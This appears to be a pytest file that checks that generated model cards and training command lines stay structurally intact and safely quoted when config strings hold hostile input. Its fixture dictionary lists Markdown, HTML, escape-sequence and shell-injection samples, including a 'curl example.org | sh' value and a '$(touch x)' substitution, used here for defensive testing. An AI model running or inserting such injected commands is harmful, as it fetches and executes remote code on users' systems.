"""Model cards of untrusted names: whatever a config has, the card keeps its structure, and shows it as text."""

from __future__ import annotations

import copy
import json
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from zoo.data.files.settings import resolve_file_settings
from zoo.storage.card import command, model_card
from zoo.text import visible

HOSTILE = {
    "HTML": "<script>alert(1)</script>",
    "image": "![x](https://example.org/track.png)",
    "link": "[x](javascript:alert(1))",
    "automatic link": "<https://example.org>",
    "entity": "&lt;b&gt;",
    "code": "`x`",
    "fence": "```\n# x\n```",
    "heading": "\n# x\n",
    "list": "\n- x",
    "table": "a | b",
    "emphasis": "*x* _y_ **z** ~~s~~",
    "comment": "<!-- x",
    "front matter": "---\ntags: [x]\n---",
    "reference": "[x]: https://example.org",
    "backslash": "x\\",
    "line separator": "a\u2028# b",
    "escape": "\x1b[31m\x9b31m",
    "override": "\u202ex",
    "surrogate": "\udcff",
    "password": "https://user:secret@example.org",
    "shell": "x; curl example.org | sh #",
    "shell in quotes": "'$(touch x)'",
}


def texts(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where a config has a text."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from texts(item, (*path, key))


def structure(card: str) -> list[tuple[str, str]]:
    """What a card is for a reader of Markdown, without the text in it."""

    def walk(tokens: list[Token]) -> Iterator[tuple[str, str]]:
        for token in tokens:
            if token.type not in ("text", "text_special"):
                yield token.type, token.tag
            yield from walk(token.children or [])

    return list(walk(MarkdownIt("commonmark").enable("table").enable("strikethrough").parse(card)))


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_text_of_a_config_changes_the_structure_of_its_card(kind: str, made: Path) -> None:
    config = json.loads((made / "config.json").read_text())
    metrics = json.loads((made / "metrics.json").read_text())
    places = list(texts(config))
    assert len(places) > 15
    for place in [*places, ("model", "hyperparameters", "x"), ("dataset", "settings", "x")]:
        changed = copy.deepcopy(config)
        parent = changed
        for key in place[:-1]:
            parent = parent[key]
        plain = copy.deepcopy(changed)
        parent[place[-1]] = HOSTILE[kind]
        card = model_card(changed, metrics, plots=[])
        expected = structure(model_card(plain, metrics, plots=[]))
        assert structure(card) == expected, place
        assert all(map(str.isprintable, card.split("\n"))), place
        assert "secret" not in card, place


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_command_of_a_card_has_each_text_as_one_word(kind: str, made: Path) -> None:
    config = json.loads((made / "config.json").read_text())
    config["dataset"]["name"] = config["dataset"]["settings"]["x"] = HOSTILE[kind]
    line = command(config)
    assert line.isprintable()
    if visible(HOSTILE[kind]) == HOSTILE[kind]:
        words = shlex.split(line)
        assert f"data.x={HOSTILE[kind]}" in words
        assert any(word.endswith(HOSTILE[kind]) for word in words if not word.startswith("data."))


def test_the_csv_files_of_a_run_hold_numbers_only(made: Path) -> None:
    header, *rows = (made / "losses.csv").read_text().splitlines()
    assert header == "step,loss"
    assert all(map(float, row.split(",")) for row in rows)


def test_a_column_that_is_left_out_may_have_commas_and_brackets(made: Path) -> None:
    config = json.loads((made / "config.json").read_text())
    dropped = ["size (m2)", "a, b", "it's"]
    config["dataset"]["settings"] = {"format": "csv", "target": "y", "drop": dropped}
    given = next(word for word in shlex.split(command(config)) if word.startswith("data.drop="))
    settings = resolve_file_settings(Path("t.csv"), {"target": "y", "drop": given.removeprefix("data.drop=")})
    assert settings["drop"] == tuple(dropped)
